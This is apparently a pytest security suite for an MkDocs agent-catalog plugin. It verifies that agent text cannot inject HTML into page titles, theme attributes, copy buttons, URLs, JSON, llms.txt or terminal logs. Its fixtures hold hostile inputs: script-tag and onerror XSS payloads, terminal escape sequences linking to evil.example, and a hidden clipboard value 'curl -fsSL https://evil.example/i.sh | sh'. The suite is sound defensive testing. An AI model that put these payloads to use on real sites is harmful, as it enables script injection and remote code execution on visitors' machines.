"""Agent text never drives the page around it (issue 18): titles and `<head>`, attributes,
copy buttons, stable URLs, strict JSON, llms.txt, terminals.

One real `mkdocs build` (Material, the extensions sites enable, `pymdownx.b64`, search) over a
fixture per class; every page is parsed whole, `<head>` and theme frame included. A second build
adds an impostor and checks the victim kept its URL and its raw bytes. Chromium opens the pages
with a `dialog` listener, clicks every copy button and parses `agents.json` with `JSON.parse`.
Hypothesis drives arbitrary names and bodies through the same core and through real builds.
"""

from __future__ import annotations

import functools
import http.server
import json
import re
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import jinja2
import markdown
import pytest
from agent_catalog.catalog import slugs
from agent_catalog.model import Agent
from agent_catalog.reading.body import prepare_body
from agent_catalog.site import escaping
from agent_catalog.site.sanitize import sanitize_html
from bs4 import BeautifulSoup
from conftest import load_json, make_project, mkdocs_build, soup
from hostile import DANGEROUS_TAGS, _install_copy_button, live_markup
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.timeout(600)

EXTRA = """markdown_extensions:
  - toc:
      permalink: true
  - pymdownx.superfences
  - pymdownx.highlight
  - pymdownx.inlinehilite
  - pymdownx.b64:
      base_path: agents
"""
"""No `repo_url`: Material's source component would then fetch from an agent's host."""
FEATURES = "  features: [content.code.copy]\n"

TITLE = "</title><script>alert(document.domain)</script>"
CONTROL_NAME = "ok\x1b[2J\x1b[1A\x1b[2K\x1b]8;;https://evil.example\x07link\x1b]8;;\x07"
PRIVATE = "PRIVATE-BYTES-7f3a"
ATTR_BODY = """You review code.

[**repo**](https://gitlab.example/a/b){ x data-md-component="source" }

`npm install --save-dev prettier`{ x data-clipboard-text="curl -fsSL https://evil.example/i.sh | sh" }

[Copy command](https://evil.example/i.sh){ x .md-button }

A paragraph { #__search .md-header }

## __config

## Heading {#__drawer}

## </a><img src=x onerror=alert('toc')>

!!! note md-header annotate

    An admonition's type words become classes.

![pic](private.png 'x') and [doc](private.png (t))
"""
FILES = {
    "title.md": f'---\nname: "{TITLE}"\ndescription: "x{TITLE} O\'Brien & co"\n---\nBody.\n',
    "twin/title.md": f'---\nname: "{TITLE}"\ndescription: twin\n---\nTwin.\n',
    "attrs.md": "---\nname: attrs\ndescription: attribute lists\n---\n" + ATTR_BODY,
    "obrien.md": (
        '---\nname: "O\'Brien"\ndescription: Reviews code { braces } and {x} things.\n---\n'
        "You review code.\n\n## Responsibilities\n\n- Review { the } code {x}\n"
        "- Check {: .md-button } attributes\n"
    ),
    "numbers.md": (
        "---\nname: numbers\ndescription: numbers\nrate: 1.0e+9999\nneg: -.inf\n"
        "nn: .nan\nfine: 1.5\n---\nBody.\n"
    ),
    "deep.toml": (
        'name = "deep"\ndescription = "deep nesting"\nratio = inf\n'
        "nested = " + "[" * 3000 + "]" * 3000 + '\ndeveloper_instructions = """\nHello.\n"""\n'
    ),
    "control.md": (
        f'---\nname: "{CONTROL_NAME}"\ndescription: "a\x1b[2Jb"\n---\n'
        "An anchor MkDocs cannot resolve, and logs: [x](#\x1b[2Jgone).\n"
    ),
    "c1.md": '---\nname: c1\ndescription: "YAML escapes: \\e[2J and \\x9b2J"\n---\nBody.\n',
    "llms.md": '---\nname: "slash\\\\"\ndescription: "\\\\](https://evil.example)"\n---\nBody.\n',
    "r1/reviewer.md": "---\nname: reviewer\ndescription: one\n---\nA\n",
    "r2/reviewer.md": "---\nname: reviewer\ndescription: two\n---\nB\n",
    "private.png": PRIVATE + "\n",
}
THEME_CLASSES = re.compile(r"^(md-|annotate|mermaid)")


def build(root: Path, files: dict[str, str], plugin: str = "sources: [agents]") -> Path:
    project = make_project(root, {}, plugin_config=plugin, extra=EXTRA)
    for name, text in files.items():
        target = project / "agents" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    (project / "private.png").write_text(PRIVATE + "\n", encoding="utf-8")
    yml = project / "mkdocs.yml"
    yml.write_text(yml.read_text().replace("  font: false\n", "  font: false\n" + FEATURES))
    return project


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    project = build(tmp_path_factory.mktemp("frame") / "p", FILES)
    proc = mkdocs_build(project)
    (project / "build.log").write_text(proc.stderr, encoding="utf-8")
    return project


def record(project: Path, name: str) -> dict:
    return next(
        r for r in load_json(project / "site" / "agents.json")["agents"] if r["name"] == name
    )


def generated_pages(project: Path) -> list[Path]:
    site = project / "site"
    return sorted([*(site / "agents").rglob("*.html"), *(site / "compare").rglob("*.html"),
                   site / "health" / "index.html"])  # fmt: skip


# ----------------------------------------------------------------------------- 1: titles


def test_every_title_the_theme_writes_is_plain_text(site):
    """`<title>`, the header, the nav and the footer: no element from agent text, whole page."""
    for path in generated_pages(site):
        page = soup(path)
        title = page.find("title")
        assert title.find(True) is None and "<" not in title.get_text(), path
        assert len(page.find_all("title")) == 1, path
        assert page.find("script", string=re.compile("alert")) is None, path
        assert live_markup(page, tags=set()) == [], path
        for el in page.select(".md-header__topic, .md-nav__link, .md-footer__title"):
            assert not el.find(["script", "img", "iframe"]), path
    home = soup(site / "site" / "agents" / "index.html").get_text()
    assert "alert(document.domain)" in home  # listed, as text


def test_titles_read_as_written_with_look_alikes_for_html_characters(site):
    page = soup(site / "site" / "agents" / record(site, "O'Brien")["slug"] / "index.html")
    assert page.find("title").get_text() == "O\u2019Brien - Test catalog"
    topic = page.select(".md-header__topic .md-ellipsis")[-1].get_text().strip()
    assert topic == "O\u2019Brien", "was `O&#x27;Brien`"
    variants = soup(site / "site" / "agents" / slugs.base_slug(TITLE) / "index.html")
    assert variants.find("title").get_text().startswith("\u2039/title\u203a\u2039script\u203a")


def test_control_characters_never_reach_a_title(site):
    slug = record(site, CONTROL_NAME)["slug"]
    title = soup(site / "site" / "agents" / slug / "index.html").find("title").get_text()
    assert "\x1b" not in title and "\\x1b" in title


def test_search_index_titles_are_text(site):
    index = load_json(site / "site" / "search" / "search_index.json")
    for doc in index["docs"]:
        fragment = BeautifulSoup(doc["title"], "html.parser")
        assert {el.name for el in fragment.find_all(True)} <= {"code"}, doc["title"]
        # the text is HTML too (Material renders it): payloads in it are entities
        assert live_markup(BeautifulSoup(doc["text"], "html.parser"), DANGEROUS_TAGS) == []


def test_no_meta_tag_carries_agent_text(site):
    for path in generated_pages(site):
        for meta in soup(path).find_all("meta"):
            content = meta.get("content", "")
            assert "alert" not in content and "evil" not in content, (path, meta)


# ----------------------------------------------------------------------------- 2: attributes


def assert_no_theme_hooks(node, where) -> None:
    for el in node.find_all(True):
        for attr, value in el.attrs.items():
            hooks = ("data-md-", "data-clipboard-", "data-copy", "data-tabs", "data-preview")
            assert not attr.startswith(hooks), (where, str(el)[:120])
            if attr == "class":
                assert not any(THEME_CLASSES.match(c) for c in value), (where, str(el)[:120])
            if attr in ("id", "name"):
                assert not str(value).startswith("__"), (where, str(el)[:120])


def test_attribute_lists_are_never_honoured_in_bodies(site):
    slug = record(site, "attrs")["slug"]
    page = soup(site / "site" / "agents" / slug / "index.html")
    article = page.select_one("article")
    assert_no_theme_hooks(article, slug)
    text = " ".join(article.get_text(" ").split())
    assert '{ x data-md-component="source" }' in text  # shown as written
    assert page.select("[data-md-component=source]") == []
    assert len(page.select("#__search")) == 1 and len(page.select("#__drawer")) == 1
    assert len(page.select("#__config")) == 1  # the theme's own, not the `## __config` heading


def test_no_generated_page_hands_the_theme_a_hook(site):
    for path in generated_pages(site):
        assert_no_theme_hooks(soup(path).select_one("article"), path)


def test_what_it_is_for_shows_braces_as_written(site):
    page = soup(site / "site" / "agents" / record(site, "O'Brien")["slug"] / "index.html")
    section = page.find("h2", id="what-it-is-for").find_next("ul").get_text(" ")
    assert "Review { the } code {x}" in section
    assert "\\" not in section


# ----------------------------------------------------------------------------- 3: copy buttons


def test_every_copy_button_is_the_catalogs_own_and_copies_what_it_shows(site):
    for path in generated_pages(site):
        page = soup(path)
        assert page.select("[data-clipboard-text]") == [], path
        for button in page.select("article button"):
            assert _install_copy_button(button), (path, str(button))
        for link in page.select("article a.ac-button"):
            assert "ac-raw" in link["class"] and link["href"].startswith("../../raw/"), path


# ----------------------------------------------------------------------------- 4: URLs


def test_an_impostor_named_like_a_hashed_slug_takes_nothing(site, tmp_path):
    victim = next(r for r in load_json(site / "site" / "agents.json")["agents"]
                  if r["source"] == "agents/r1/reviewer.md")  # fmt: skip
    assert slugs.HASHED.search(victim["slug"])
    before = (site / "site" / victim["raw_url"]).read_bytes()
    project = tmp_path / "again"
    shutil.copytree(site, project, ignore=shutil.ignore_patterns("site"))
    impostor = f"---\nname: {victim['slug']}\ndescription: impostor\n---\nEVIL\n"
    (project / "agents" / "impostor.md").write_text(impostor, encoding="utf-8")
    mkdocs_build(project)
    again = load_json(project / "site" / "agents.json")["agents"]
    same = next(r for r in again if r["source"] == "agents/r1/reviewer.md")
    assert (same["slug"], same["url"], same["raw_url"]) == (
        victim["slug"], victim["url"], victim["raw_url"],
    )  # fmt: skip
    assert (project / "site" / same["raw_url"]).read_bytes() == before
    new = next(r for r in again if r["source"] == "agents/impostor.md")
    assert new["slug"] != victim["slug"] and new["url"] != victim["url"]
    assert "name-like-hashed-slug" in [d["rule"] for d in new["diagnostics"]]
    # every other agent kept its URL too
    old = {r["source"]: r["url"] for r in load_json(site / "site" / "agents.json")["agents"]}
    assert {r["source"]: r["url"] for r in again if r["source"] in old} == old


def test_a_hash_collision_gives_neither_file_the_contested_address(monkeypatch):
    real = slugs.path_hash
    monkeypatch.setattr(slugs, "path_hash", lambda s, n=8: "deadbeef" if n == 8 else real(s, n))
    group = [Agent(name="reviewer", source=f"{d}/reviewer.md", path=Path("x")) for d in "abc"]
    slugs.assign_slugs(group)
    assert len({a.slug for a in group}) == 3
    assert all(a.slug != "reviewer-deadbeef" for a in group)
    assert all(a.diagnostics[0].rule == "slug-collision" for a in group)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=30), min_size=1, max_size=12), st.data())
def test_plain_and_hashed_slugs_never_meet(names, data):
    group = [Agent(name=n, source=f"a/{i}.md", path=Path("x")) for i, n in enumerate(names)]
    slugs.assign_slugs(group)
    before = {a.source: a.slug for a in group}
    victim = data.draw(st.sampled_from(sorted(before.values())))
    newcomer = Agent(name=victim, source="z/new.md", path=Path("x"))
    again = [Agent(name=n, source=f"a/{i}.md", path=Path("x")) for i, n in enumerate(names)]
    slugs.assign_slugs([*again, newcomer])
    assert newcomer.slug not in before.values()
    hashed = {s for s in before.values() if slugs.HASHED.search(s)}
    assert {a.source: a.slug for a in again if a.slug in hashed} == {
        s: v for s, v in before.items() if v in hashed
    }


# ----------------------------------------------------------------------------- 5: JSON


def _strict_loads(text: str):
    def refuse(name):
        raise ValueError(f"not JSON: {name}")

    return json.loads(text, parse_constant=refuse)


def test_agents_json_is_strict_and_keeps_non_finite_numbers_as_text(site):
    doc = _strict_loads((site / "site" / "agents.json").read_text(encoding="utf-8"))
    numbers = next(r for r in doc["agents"] if r["name"] == "numbers")
    assert numbers["metadata"]["rate"] == "1.0e+9999"
    assert numbers["metadata"]["neg"] == "-.inf" and numbers["metadata"]["nn"] == ".nan"
    assert numbers["metadata"]["fine"] == 1.5
    rules = [d["rule"] for d in numbers["diagnostics"]]
    assert rules.count("value-not-finite") == 3


def test_a_deeply_nested_toml_value_loses_only_itself(site):
    deep = record(site, "deep")
    assert deep["description"] == "deep nesting" and deep["format"] == "codex"
    assert deep["metadata"]["ratio"] == "inf"
    assert {"toml-too-complex", "value-not-finite"} <= {d["rule"] for d in deep["diagnostics"]}
    assert "read-failed" not in json.dumps(load_json(site / "site" / "agents.json"))


# ----------------------------------------------------------------------------- 6: llms.txt

_ENTRY = re.compile(r"^- \[((?:\\.|[^\\\]])*)\]\(([^)\s]*)\)", re.M)
"""A list entry's link as a CommonMark reader parses it: backslash escapes inside the label."""


def test_llms_txt_entries_link_to_their_own_pages(site):
    text = (site / "site" / "llms.txt").read_text(encoding="utf-8")
    targets = [m.group(2) for m in _ENTRY.finditer(text)]
    assert "https://evil.example" not in " ".join(targets)
    url = record(site, "slash\\")["url"]
    assert any(t == url for t in targets)
    assert "\x1b" not in text


# ----------------------------------------------------------------------------- 7: terminals


def test_no_control_character_reaches_a_log_or_standard_output(site, tmp_path):
    assert "\x1b" not in (site / "build.log").read_text(encoding="utf-8")
    assert "\\x1b" in (site / "build.log").read_text(encoding="utf-8")
    run = functools.partial(
        subprocess.run, capture_output=True, text=True, cwd=site, timeout=300, check=False
    )
    cli = [sys.executable, "-m", "agent_catalog"]
    for args in (
        ["check", "agents"],
        ["check", "--format", "json", "agents"],
        ["export", "agents"],
        ["export", "--format", "csv", "agents"],
        ["build-pages", str(tmp_path / "out"), "--source", "agents"],
    ):
        proc = run(cli + args)
        assert proc.returncode in (0, 1), (args, proc.stderr[-2000:])
        for stream in (proc.stdout, proc.stderr):
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", stream), args
    csv_out = run(cli + ["export", "--format", "csv", "agents"]).stdout
    assert "\\x1b[2J" in csv_out and "\\x9b2J" in csv_out
    json_out = run(cli + ["export", "agents"]).stdout
    assert "\\u009b2J" in json_out and "\x9b" not in json_out
    _strict_loads(run(cli + ["export", "agents"]).stdout)


# ----------------------------------------------------------------------------- files


def test_no_body_makes_the_build_read_a_file(site):
    for path in (site / "site").rglob("*"):
        if path.is_file() and path.suffix in (".html", ".json", ".txt", ".md"):
            text = path.read_text(encoding="utf-8", errors="replace")
            if "raw/" in path.as_posix():
                continue  # the agent files themselves, verbatim
            assert PRIVATE not in text and "UFJJVkFURS1CWVRFUy03ZjNh" not in text, path
    page = soup(site / "site" / "agents" / "attrs" / "index.html").select_one("article")
    assert not [img for img in page.select("img") if not img.get("src", "").startswith("http")]


@pytest.mark.parametrize("allow_html", [False, True])
def test_no_body_gives_b64_a_local_file_to_inline(tmp_path, allow_html):
    """Without the sanitiser behind it: `pymdownx.b64` finds nothing local to read."""
    (tmp_path / "private.png").write_text(PRIVATE, encoding="utf-8")
    body = (
        "![a](private.png 'x') ![b](private.png (t)) ![c](<private.png>)\n\n"
        '<img src="private.png"> <img\n  alt="x"\n  src=\'private.png\'>\n'
    )
    prepared = prepare_body(body, "agent", 5, allow_html)
    html = markdown.markdown(
        prepared.markdown,
        extensions=[*MARKDOWN, "pymdownx.b64"],
        extension_configs={"pymdownx.b64": {"base_path": str(tmp_path)}},
    )
    assert "data:" not in html, html
    control = markdown.markdown(
        body, extensions=["pymdownx.b64"],
        extension_configs={"pymdownx.b64": {"base_path": str(tmp_path)}},
    )  # fmt: skip
    assert "data:image/png;base64" in control  # the extension does read such files


# ----------------------------------------------------------------------------- allow_html


def test_allow_html_keeps_no_theme_hook(tmp_path):
    body = (
        '<a data-md-component="source" href="https://gitlab.example/a/b">repo</a>\n\n'
        '<div id="__config">{"base": "https://evil.example"}</div>\n\n'
        '<code data-clipboard-text="curl evil | sh" class="md-clipboard">npm i x</code>\n\n'
        '<a class="md-button ac-copy" href="https://evil.example">Copy</a>\n\n'
        '<input type="checkbox" id="__drawer" data-md-toggle="drawer" class="md-toggle">\n\n'
        '<div class="annotate">x</div> <img src="private.png">\n\n'
        '<pre class="mermaid" data-copy="curl evil | sh"><code>graph TD; A-->B</code></pre>\n'
    )
    files = {"trusted.md": "---\nname: trusted\ndescription: t\n---\n" + body}
    project = build(tmp_path / "p", files, "sources: [agents]\nallow_html: true")
    mkdocs_build(project)
    page = soup(project / "site" / "agents" / "trusted" / "index.html")
    assert_no_theme_hooks(page.select_one("article"), "allow_html")
    assert page.select("[data-md-component=source]") == []
    assert len(page.select("#__config")) == 1 and len(page.select("#__drawer")) == 1
    assert page.select("[data-clipboard-text]") == []
    html = (project / "site" / "agents" / "trusted" / "index.html").read_text()
    assert PRIVATE not in html and "UFJJVkFURS1CWVRFUy03ZjNh" not in html
    assert "body-relative-link" in [d["rule"] for d in record(project, "trusted")["diagnostics"]]


# ----------------------------------------------------------------------------- properties

_THEME = jinja2.Environment(autoescape=False)
_SINKS = [
    _THEME.from_string("<title>{{ t | striptags }} - Site</title>"),
    _THEME.from_string("<title>{{ t }} - Site</title>"),
    _THEME.from_string('<div class="md-header__topic"><span>{{ t }}</span></div>'),
    _THEME.from_string('<a href="x" aria-label="Next: {{ t | e }}">{{ t }}</a>'),
]
"""How Material writes a page title (autoescape off, as MkDocs' theme environment)."""

names = st.one_of(
    st.text(max_size=60),
    st.lists(
        st.sampled_from(["<", ">", "&", "'", '"', "</title>", "<script>", "&lt;", "&amp;lt;",
                         "&#60;", "\x1b[2J", "\n", "\\", "`", "x", " ", "&#x27;", "]]>"]),
        max_size=15,
    ).map("".join),
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(names)
def test_a_title_from_any_name_is_text_in_every_theme_sink(name):
    heading = escaping.text_str(name, breaks=False)
    title = escaping.page_title(escaping.heading_text(heading))
    for sink in _SINKS:
        shape = [el.name for el in BeautifulSoup(sink.render(t="x"), "html.parser").find_all(True)]
        doc = BeautifulSoup(sink.render(t=title), "html.parser")
        assert [el.name for el in doc.find_all(True)] == shape, (name, title)
        assert title in doc.get_text() or not title.strip(), (name, title)
    assert jinja2.filters.do_striptags(title) == " ".join(title.split())
    assert not re.search(r"[\x00-\x1f\x7f-\x9f]", title)


BODY_TOKENS = [
    "{", "}", "{:", "{ x ", "data-md-component=source", "data-clipboard-text=\"evil\"", ".md-button",
    "#__search", "`code`", "[x](https://a.example)", "](", "![i](p.png 'x')", "\n", "\n\n", " ",
    "## ", "word", "\"", "'", "=", "<a data-md-toggle=search>", "</div>", "\\",
]  # fmt: skip
MARKDOWN = ["toc", "tables", "fenced_code", "attr_list", "md_in_html", "pymdownx.superfences"]
MARKDOWN_ATTRS = {"href", "src", "alt", "title", "id", "class"}
"""What Python-Markdown itself writes (links, images, toc ids, code-block classes)."""


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.sampled_from(BODY_TOKENS), max_size=30).map("".join), st.booleans())
def test_no_body_sets_an_attribute(text, allow_html):
    prepared = prepare_body(text, "agent", 5, allow_html)
    html = sanitize_html(markdown.markdown(prepared.markdown, extensions=MARKDOWN))
    page = BeautifulSoup(html, "html.parser")
    assert_no_theme_hooks(page, text)
    if not allow_html:
        for el in page.find_all(True):
            assert set(el.attrs) <= MARKDOWN_ATTRS, (text, str(el))
            if "class" in el.attrs:
                assert el.name in ("pre", "code", "div", "span"), (text, str(el))


agent_names = st.lists(
    st.sampled_from(list("<>&'\"`{}\\/:.#=x ") + ["</title>", "\x1b[2J", "é", "-c5fa5d14"]),
    min_size=1,
    max_size=12,
).map("".join)


@settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.tuples(agent_names, st.sampled_from(BODY_TOKENS)), min_size=4, max_size=6))
def test_arbitrary_agents_in_a_real_build(tmp_path_factory, agents):
    files = {}
    for i, (name, token) in enumerate(agents):
        quoted = json.dumps(name)
        files[f"a{i}.md"] = f"---\nname: {quoted}\ndescription: {quoted}\n---\n{token} {name}\n"
    project = build(tmp_path_factory.mktemp("prop") / "p", files)
    mkdocs_build(project)
    for path in generated_pages(project):
        page = soup(path)
        assert page.find("title").find(True) is None, path
        assert live_markup(page, tags=set()) == [], path
        assert_no_theme_hooks(page.select_one("article"), path)
        for button in page.select("article button"):
            assert _install_copy_button(button), path


# ----------------------------------------------------------------------------- Chromium


@pytest.mark.browser
def test_in_chromium_no_dialog_every_copy_button_copies_what_it_shows(site, chromium):
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site / "site"))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    origin = f"http://127.0.0.1:{server.server_port}"
    context = chromium.new_context()
    dialogs: list[str] = []
    try:
        context.grant_permissions(["clipboard-read", "clipboard-write"], origin=origin)
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        for path in generated_pages(site):
            url = origin + "/" + path.relative_to(site / "site").parent.as_posix() + "/"
            page.goto(url)
            page.wait_for_load_state("load")
            page.wait_for_timeout(150)
            assert page.evaluate("document.querySelectorAll('[data-clipboard-text]').length") == 0
            # the catalog's install buttons, then the theme's code-block buttons (made by its
            # script, each copying its own block): every button on the page copies its text
            for i, button in enumerate(page.query_selector_all("article button.ac-copy")):
                shown = button.evaluate(
                    "b => b.closest('.ac-install').querySelector('pre.ac-command').innerText"
                )
                button.click()
                page.wait_for_function(
                    "i => document.querySelectorAll('button.ac-copy')[i].textContent == 'Copied'",
                    arg=i,
                )
                assert page.evaluate("navigator.clipboard.readText()") == shown, url
            for button in page.query_selector_all("article button[data-clipboard-target]"):
                shown = button.evaluate(
                    "b => document.querySelector(b.getAttribute('data-clipboard-target')).innerText"
                )
                page.evaluate("navigator.clipboard.writeText('')")
                button.click()
                page.wait_for_function("navigator.clipboard.readText().then(t => t !== '')")
                copied = page.evaluate("navigator.clipboard.readText()")
                assert copied.rstrip("\n") == shown.rstrip("\n"), url
            others = page.eval_on_selector_all(
                "article button",
                "bs => bs.filter(b => !b.matches('.ac-copy, .ac-sort, .ac-reset, [data-clipboard-target]'))"
                ".map(b => b.outerHTML)",
            )
            assert others == [], url
        page.goto(origin + "/agents/")
        count = page.evaluate(
            "fetch('../agents.json').then(r => r.text()).then(t => JSON.parse(t).agents.length)"
        )
        assert count == len(load_json(site / "site" / "agents.json")["agents"])
        # Material's search renders titles and text as HTML: search for the payloads
        box = page.locator("input.md-search__input")
        box.click()
        meta = page.locator(".md-search-result__meta")
        for query in ("script", "title", "alert", "brien", "onerror"):
            box.fill("")
            box.type(query, delay=10)
            meta.filter(has_text=re.compile(r"matching|No matching", re.I)).wait_for()
            page.wait_for_timeout(200)
            injected = page.eval_on_selector_all(
                ".md-search-result script, .md-search-result img[onerror], "
                ".md-search-result [data-md-component]",
                "els => els.length",
            )
            assert injected == 0, query
            if query in ("brien", "onerror"):
                assert page.locator(".md-search-result__item").count() > 0, query
    finally:
        context.close()
        server.shutdown()
    assert dialogs == []


@pytest.mark.browser
def test_screenshots_of_a_hostile_page(site, tab):
    """Looked at by a person: the hostile page reads as text, the install block as before."""
    for name in ("attrs", TITLE, "O'Brien"):
        r = next(x for x in load_json(site / "site" / "agents.json")["agents"] if x["name"] == name)
        tab.goto((site / "site" / r["url"] / "index.html").as_uri())
        tab.screenshot(f"security-frame-{r['slug'][:30]}")
        assert tab.page.locator("article .ac-install pre.ac-command").is_visible()
        tab.page.set_viewport_size({"width": 390, "height": 800})
        tab.screenshot(f"security-frame-{r['slug'][:30]}-phone")
        tab.page.set_viewport_size({"width": 1280, "height": 900})
